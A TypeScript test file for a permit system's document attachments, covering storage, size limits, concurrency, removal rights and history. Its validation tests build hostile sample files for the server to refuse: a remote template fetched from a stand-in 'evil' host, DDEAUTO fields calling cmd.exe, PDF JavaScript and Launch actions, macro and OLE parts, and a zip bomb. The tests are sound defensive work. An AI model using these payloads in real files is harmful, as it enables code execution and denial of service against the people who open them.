import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { megabyte } from '#domain/kernel/units.ts';
import { documentLimits } from '#domain/permits/documents/document.limits.ts';
import { permitLimits } from '#domain/permits/kernel/permit.limits.data.ts';
import { receive } from '#server/modules/documents/documents.receive.ts';
import { docx, pdf, xlsx, zipOf } from '#tests/kit/officeFiles.ts';
import { type Desk, desk, faultInHistory, openDesk } from '#tests/kit/permitDesk.ts';
import { jpeg, png, remark, svg, webp, whereTaken } from '#tests/kit/pictures.ts';
import { signIn, withToken } from '#tests/kit/server.ts';
import { describeStores, emptyStore } from '#tests/kit/stores.ts';

type Sending = { by?: number; type?: string; language?: string };

/** The first bytes of an OLE file. */
const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex');

const start = new Date('2026-11-20T08:00:00Z');

describeStores('documents of a permit', (store) => {
  let at: Desk;
  const tokens = new Map<number, string>();
  beforeEach(async () => {
    await emptyStore(store().db);
    tokens.clear();
    at = await openDesk(store(), start);
  });
  afterEach(() => at.close());

  const headersOf = async (sap: number) => {
    const token = tokens.get(sap) ?? (await signIn(at.server, sap));
    tokens.set(sap, token);
    return withToken(token);
  };
  const urlOf = (id: number, name = '') => `/v1/permits/${id}/attachments/${name}`;
  const add = async (
    id: number,
    name: string,
    payload: Buffer,
    { by = desk.hse, type = 'application/octet-stream', language = 'en' }: Sending = {},
  ) =>
    at.server.inject({
      method: 'POST',
      url: `${urlOf(id)}?name=${encodeURIComponent(name)}`,
      headers: { ...(await headersOf(by)), 'content-type': type, 'accept-language': language },
      payload,
    });
  const get = async (url: string, by: number = desk.hse) => at.server.inject({ method: 'GET', url, headers: await headersOf(by) });
  const remove = async (id: number, name: string, by: number = desk.hse) =>
    at.server.inject({ method: 'DELETE', url: urlOf(id, name), headers: await headersOf(by) });
  const items = async (id: number) => (await get(urlOf(id))).json().result.items;
  const left = async () => {
    const { count } = await at.db
      .selectFrom('permit_document_piece')
      .select(({ fn }) => fn.countAll<number>().as('count'))
      .executeTakeFirstOrThrow();
    return Number(count);
  };

  test('are kept byte for byte, with who, when and a line of history, and come back for saving only', async () => {
    const id = await at.put({ state: 'preparing' });
    // Larger than one piece, so that the pieces must come back in their order.
    const bytes = pdf(1_400_000);
    bytes.set([1, 2, 3], 700_000);
    const reply = await add(id, 'izolasyon planı "2".pdf', bytes, { by: desk.sme });
    expect(reply.statusCode).toBe(200);
    const [file] = reply.json().result.items;
    expect(file).toMatchObject({
      name: expect.stringMatching(/^[0-9a-f]{32}$/),
      file_name: 'izolasyon planı "2".pdf',
      type: 'application/pdf',
      size: bytes.length,
      sha256: createHash('sha256').update(bytes).digest('hex'),
      added_by: { sap: desk.sme, name: 'Kerem Ilgaz' },
      added_at: start.toISOString(),
      removable: true,
    });
    const back = await get(urlOf(id, file.name), desk.delegate);
    expect(back.rawPayload.equals(bytes)).toBe(true);
    expect(back.headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-length': String(bytes.length),
      'content-disposition': `attachment; filename="izolasyon plan_ _2_.pdf"; filename*=UTF-8''izolasyon%20plan%C4%B1%20%222%22.pdf`,
      'x-content-type-options': 'nosniff',
    });
    const held = { ...(await headersOf(desk.hse)), 'if-none-match': String(back.headers.etag) };
    expect((await at.server.inject({ method: 'GET', url: urlOf(id, file.name), headers: held })).statusCode).toBe(304);
    expect((await at.historyOf(id)).at(-1)).toMatchObject({
      event: 'DOCUMENT_ADDED',
      comment: file.file_name,
      actor_sap: desk.sme,
    });
    expect(await faultInHistory(at, id)).toBeNull();
    const other = await at.put({ state: 'preparing' });
    expect((await get(urlOf(other, file.name))).statusCode).toBe(404);
    expect((await at.server.inject({ method: 'GET', url: urlOf(id, file.name) })).statusCode).toBe(401);
  });

  test('the same file under the same name is added once, under another name again', async () => {
    const id = await at.put({ state: 'draft' });
    for (const name of ['a.pdf', 'a.pdf', 'b.pdf']) expect((await add(id, name, pdf())).statusCode).toBe(200);
    expect((await items(id)).map(({ file_name }: { file_name: string }) => file_name).sort()).toEqual(['a.pdf', 'b.pdf']);
    expect((await at.historyOf(id)).filter(({ event }) => event === 'DOCUMENT_ADDED')).toHaveLength(2);
    expect(await left()).toBe(2);
  });

  test('what is not kept is refused with a reason, and nothing of it stays', async () => {
    const id = await at.put({ state: 'draft' });
    const refused: [name: string, bytes: Buffer, status: number, type?: string][] = [
      ['drawing.svg', svg, 415],
      ['page.html', Buffer.from('<p>'), 415],
      ['drawing.txt', svg, 422],
      ['drawing.png', svg, 422],
      ['photo.png', pdf(), 422],
      ['book.xlsx', xlsx({ 'xl/vbaProject.bin': 'x' }), 422],
      ['empty.pdf', Buffer.alloc(0), 422],
      ['noending', pdf(), 422],
      ['.pdf', pdf(), 422],
      ['', pdf(), 422],
      [`${'n'.repeat(4000)}.pdf`, pdf(), 422],
      ['large.pdf', pdf(documentLimits.max), 413],
      ['typed.pdf', pdf(), 415, 'application/pdf'],
    ];
    for (const [name, bytes, status, type] of refused) {
      const reply = await add(id, name, bytes, type ? { type } : {});
      expect([name.slice(0, 20), reply.statusCode]).toEqual([name.slice(0, 20), status]);
    }
    const turkish = await add(id, 'photo.png', pdf(), { language: 'tr' });
    expect(turkish.json().errors).toEqual([{ field: 'file', message: expect.stringContaining('Dosyanın içeriği') }]);
    expect(await items(id)).toEqual([]);
    expect(await left()).toBe(0);
    expect(await at.historyOf(id)).toHaveLength(1);
    expect((await add(999_999, 'a.pdf', pdf())).statusCode).toBe(404);
  });

  test('photographs and office documents are looked at to their last part', async () => {
    const id = await at.put({ state: 'draft' });
    const kinds = (kind: string) => ({ '[Content_Types].xml': `<Types><Override ContentType="${kind}"/></Types>` });
    const trailing = Buffer.from('<script>alert(1)</script>');
    const spoilt = png();
    spoilt[45] = (spoilt[45] ?? 0) ^ 0xff;
    const refused: [name: string, bytes: Buffer, said: RegExp][] = [
      ['after.png', Buffer.concat([png(), trailing]), /not whole/],
      ['after.jpg', Buffer.concat([jpeg(), trailing]), /not whole/],
      ['after.webp', Buffer.concat([webp, trailing]), /not whole/],
      ['cut.jpg', jpeg().subarray(0, -2), /not whole/],
      ['spoilt.png', spoilt, /not whole/],
      ['sheet.xlsx', xlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' }), /macros/],
      ['renamed.xlsx', xlsx({ ...kinds('application/vnd.ms-excel.macrosheet+xml'), 'xl/s.xml': '<x/>' }), /macros/],
      ['figures.xlsx', xlsx(kinds('application/vnd.ms-excel.&#109;acrosheet+xml')), /macros/],
      ['ole.xlsx', xlsx({ 'xl/embeddings/oleObject1.bin': 'x' }), /macros/],
      ['renamed ole.xlsx', zipOf({ ...kinds('x'), 'xl/workbook.xml': '<workbook/>', 'xl/a.dat': ole }), /macros/],
      ['dde.xlsx', xlsx({ 'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd"/>' }), /macros/],
      ['bomb.xlsx', xlsx({ 'xl/media/a.bin': Buffer.alloc(201 * 1024 * 1024) }, true), /more than 200 MB/],
    ];
    for (const [name, bytes, said] of refused) {
      const reply = await add(id, name, bytes);
      expect([name, reply.statusCode]).toEqual([name, 422]);
      expect([name, reply.json().errors[0].message]).toEqual([name, expect.stringMatching(said)]);
    }
    expect(await left()).toBe(0);
    const kept: [name: string, bytes: Buffer][] = [
      ['phone.jpg', jpeg(4000, whereTaken)],
      ['remark.png', png(2000, remark('taken at the gate'))],
      ['small.webp', webp],
      ['book.xlsx', xlsx({ 'xl/worksheets/sheet1.xml': '<sheetData/>' }, true)],
    ];
    for (const [name, bytes] of kept) expect([name, (await add(id, name, bytes)).statusCode]).toEqual([name, 200]);
  });

  test('nothing is kept that fetches or starts something when it is opened', async () => {
    const id = await at.put({ state: 'draft' });
    const relation = (kind: string, mode: string) => ({
      'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r1" Type="http://x/${kind}" Target="http://evil/x.dotm" ${mode}/></Relationships>`,
    });
    const text = (body: string) => docx({ 'word/document.xml': `<w:document>${body}</w:document>` });
    const field = (...runs: string[]) =>
      `<w:fldChar w:fldCharType="begin"/>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')}`;
    const objects = (...bodies: (string | Buffer)[]) =>
      Buffer.concat([Buffer.from('%PDF-1.7\n'), ...bodies.map((body) => Buffer.from(body)), Buffer.from('\n%%EOF\n')]);
    const packed = (content: string, about = '/Type /ObjStm /Filter /FlateDecode') =>
      Buffer.concat([Buffer.from(`7 0 obj << ${about} >>\nstream\n`), deflateSync(content), Buffer.from('\nendstream endobj\n')]);
    const refused: [name: string, bytes: Buffer, said: RegExp][] = [
      ['template.docx', docx(relation('attachedTemplate', 'TargetMode="External"')), /from elsewhere/],
      ['spelled.docx', docx(relation('attachedTemplate', 'TargetMode="&#69;xternal"')), /from elsewhere/],
      ['dde.docx', text(field(' DDEAUTO c:\\windows\\cmd.exe')), /from elsewhere/],
      ['cut.docx', text(field(' D', 'DE', 'AUTO cmd')), /from elsewhere/],
      ['simple.docx', text('<w:fldSimple w:instr="DDE cmd"/>'), /from elsewhere/],
      ['twice.docx', docx({ 'Word/document.xml': '<document/>' }), /not whole/],
      ['script.pdf', objects('1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'), /scripts/],
      ['figures.pdf', objects('1 0 obj << /OpenAction << /S /J#61vaScript >> >> endobj'), /scripts/],
      ['launch.pdf', objects('1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj'), /scripts/],
      ['after.pdf', objects(packed('no list', '/Filter /FlateDecode'), '2 0 obj << /S/Launch>> endobj'), /scripts/],
      ['packed.pdf', objects(packed('2 0 << /S /JavaScript >>')), /scripts/],
    ];
    for (const [name, bytes, said] of refused) {
      const reply = await add(id, name, bytes);
      expect([name, reply.statusCode]).toEqual([name, 422]);
      expect([name, reply.json().errors[0].message]).toEqual([name, expect.stringMatching(said)]);
    }
    expect(await left()).toBe(0);
    const kept: [name: string, bytes: Buffer][] = [
      ['linked.docx', docx(relation('hyperlink', 'TargetMode="External"'))],
      ['own.docx', docx(relation('styles', 'TargetMode="Internal"'))],
      ['fields.docx', text(`${field(' PAGE ')}${field(' REF DDE_note ')}DDEAUTO is not a field here.`)],
      // What a page shows is packed, and may hold any bytes; a name may begin like another one.
      [
        'shown.pdf',
        objects(packed('/JS /Launch', '/Filter /FlateDecode'), '3 0 obj << /JSColour 1 /OpenAction [1 0 R /Fit] >> endobj'),
      ],
      ['list.pdf', objects(packed('2 0 << /Type /Catalog >>'))],
    ];
    for (const [name, bytes] of kept) expect([name, (await add(id, name, bytes)).statusCode]).toEqual([name, 200]);
  });

  test('together they have as much as the rules of the site say, for a permit and for a site', async () => {
    const [first, second] = [await at.put({ state: 'draft' }), await at.put({ state: 'draft' })];
    const refusal = async (id: number) => (await add(id, 'a.pdf', pdf())).json().errors?.[0].message ?? null;
    expect(await refusal(first)).toBeNull();
    const grow = (size: number) => at.db.updateTable('permit_document').set({ size }).where('permit_id', '=', first).execute();
    await grow(permitLimits.documentsOfPermit.value * megabyte - 1);
    expect(await refusal(second)).toBeNull();
    expect((await add(first, 'b.pdf', pdf())).json().errors[0].message).toContain('The files of a permit');
    // One row cannot be that large; ten together are.
    const row = await at.db.selectFrom('permit_document').selectAll().where('permit_id', '=', first).executeTakeFirstOrThrow();
    const many = Array.from({ length: 10 }, (_, no) => ({ ...row, name: `${no}`.padStart(32, '0'), size: 2_100_000_000 }));
    await at.db.insertInto('permit_document').values(many).execute();
    expect((await add(second, 'b.pdf', pdf())).json().errors[0].message).toContain('all permits of this site');
    expect(await items(second)).toHaveLength(1);
  });

  test('one that is as large as it may be is kept', async () => {
    const id = await at.put({ state: 'draft' });
    const bytes = pdf(documentLimits.max - pdf().length);
    expect((await add(id, 'large.pdf', bytes)).statusCode).toBe(200);
    const [file] = await items(id);
    const back = await get(urlOf(id, file.name));
    expect(createHash('sha256').update(back.rawPayload).digest('hex')).toBe(file.sha256);
  });

  test('one that breaks off on the way leaves nothing', async () => {
    const id = await at.put({ state: 'draft' });
    const pieces = async function* () {
      yield pdf(600_000);
      expect(await left()).toBe(1);
      throw new Error('the line is cut');
    };
    const sent = { permitId: id, fileName: 'a.pdf', ending: 'pdf', bySap: desk.hse, language: 'en' } as const;
    await expect(receive(at.db, sent, pieces(), start)).rejects.toThrow('the line is cut');
    expect(await left()).toBe(0);
    expect(await items(id)).toEqual([]);
  });

  test('twenty and no more, also when many arrive at once', async () => {
    const id = await at.put({ state: 'draft' });
    for (let no = 0; no < documentLimits.files - 3; no += 1) await add(id, `${no}.txt`, Buffer.from(`no ${no}`));
    const replies = await Promise.all(Array.from({ length: 8 }, (_, no) => add(id, `late ${no}.txt`, Buffer.from(`late ${no}`))));
    expect(replies.map(({ statusCode }) => statusCode).sort()).toEqual([200, 200, 200, 422, 422, 422, 422, 422]);
    expect(await items(id)).toHaveLength(documentLimits.files);
    expect(await left()).toBe(documentLimits.files);
    expect(await faultInHistory(at, id)).toBeNull();
  });

  test('are removed by who added them, the coordinator and the delegate of the area, and leave a line', async () => {
    const id = await at.put({ state: 'approval' });
    const names = async () => (await items(id)).map(({ name }: { name: string }) => name);
    await add(id, 'a.pdf', pdf(), { by: desk.neighbour });
    const [first] = await names();
    expect((await remove(id, first, desk.sme)).statusCode).toBe(403);
    expect((await get(urlOf(id), desk.sme)).json().result.items[0].removable).toBe(false);
    expect((await remove(id, first, desk.neighbour)).statusCode).toBe(200);
    await add(id, 'b.pdf', pdf(), { by: desk.neighbour });
    expect((await remove(id, (await names())[0], desk.second)).statusCode).toBe(200);
    await add(id, 'c.pdf', pdf(), { by: desk.second });
    const [third] = await names();
    for (const _ of [1, 2]) expect((await remove(id, third)).statusCode).toBe(200);
    expect(await items(id)).toEqual([]);
    expect(await left()).toBe(0);
    expect((await get(urlOf(id, third))).statusCode).toBe(404);
    expect((await at.historyOf(id)).filter(({ event }) => event === 'DOCUMENT_REMOVED')).toHaveLength(3);
    expect(await faultInHistory(at, id)).toBeNull();
  });

  test('stay from the first issue on, and an ended permit takes none', async () => {
    const id = await at.put({ state: 'ready' });
    await add(id, 'a.png', png());
    const [file] = await items(id);
    const issued = await at.cause(id, 'ISSUE', { by: desk.delegate, signed: [desk.delegate], body: { period: at.period(120) } });
    expect(issued.statusCode, issued.body).toBe(200);
    expect((await remove(id, file.name)).json()).toMatchObject({ code: 'illegal_event' });
    // Also when the issue was taken back and the permit is ready as before.
    await at.cause(id, 'WITHDRAW', { by: desk.second });
    expect((await at.rowOf(id)).state).toBe('ready');
    expect((await remove(id, file.name)).statusCode).toBe(409);
    expect((await add(id, 'b.png', png(9))).statusCode).toBe(200);
    const ended = await at.put({ state: 'closed' });
    expect((await add(ended, 'b.png', png())).json()).toMatchObject({ code: 'illegal_event' });
    expect((await get(urlOf(ended))).json().result).toEqual({ items: [], may_add: false });
  });

  test('belong to the visit and to the rescue plan that name them: photographs are pictures, and stay while they are named', async () => {
    const id = await at.put({ state: 'ready' });
    await at.db.updateTable('permit').set({ primary_code: 'CSE' }).where('id', '=', id).execute();
    const named = async (name: string, bytes: Buffer): Promise<string> => {
      const { items: files } = (await add(id, name, bytes)).json().result;
      return files.find((file: { file_name: string }) => file.file_name === name).name;
    };
    const [photo, plan] = [await named('manhole.png', png(4)), await named('RP-07.pdf', pdf(900))];
    const write = async (method: 'PUT' | 'POST', path: string, body: object) =>
      at.call(desk.delegate, method, `/v1/permits/${id}/${path}`, body, { 'if-match': '*' });
    const seen = { at: start.toISOString(), note: 'Barriers stand.' };
    const faultsOf = async (path: string, body: object) => {
      const { code, errors } = (await write(path === 'visit/' ? 'PUT' : 'POST', path, body)).json();
      return [code, ...errors.map(({ field, message }: { field: string; message: string }) => `${field}: ${message}`)];
    };
    const nobody = 'f'.repeat(32);
    expect(await faultsOf('visit/', { ...seen, photos: [plan, nobody] })).toEqual([
      'validation',
      'photos[1]: The permit has no such document.',
      'photos[0]: A photograph is a PNG, JPEG or WebP.',
    ]);
    expect((await faultsOf('visit/', { ...seen, photos: [photo, photo] }))[1]).toContain('photos[1]');
    const rescue = { name: 'rescue_plan', said: 'Winch and tripod' };
    expect(await faultsOf('safeguards/', { ...rescue, document: nobody })).toEqual([
      'validation',
      'document: The permit has no such document.',
    ]);

    const visited = (await write('PUT', 'visit/', { ...seen, photos: [photo] })).json().result;
    expect(visited.visit.photos).toEqual([{ name: photo, file_name: 'manhole.png' }]);
    const recorded = (await write('POST', 'safeguards/', { ...rescue, document: plan })).json().result;
    expect(recorded.safeguards.find(({ name }: { name: string }) => name === 'rescue_plan').document).toEqual({
      name: plan,
      file_name: 'RP-07.pdf',
    });
    expect((await at.historyOf(id)).slice(-2).map(({ event, comment }) => [event, comment])).toEqual([
      ['VISITED', 'Barriers stand. · manhole.png'],
      ['SAFEGUARD_RECORDED', 'Rescue plan · Winch and tripod · RP-07.pdf'],
    ]);
    expect((await items(id)).map(({ removable }: { removable: boolean }) => removable)).toEqual([false, false]);
    const refused = (await remove(id, photo)).json();
    expect([refused.code, (await items(id)).length]).toEqual(['document_in_use', 2]);
    // Recorded without it, it is a document as any other.
    expect((await write('PUT', 'visit/', seen)).json().result.visit.photos).toEqual([]);
    expect((await remove(id, photo)).statusCode).toBe(200);
    expect(await faultInHistory(at, id)).toBeNull();
  });
});
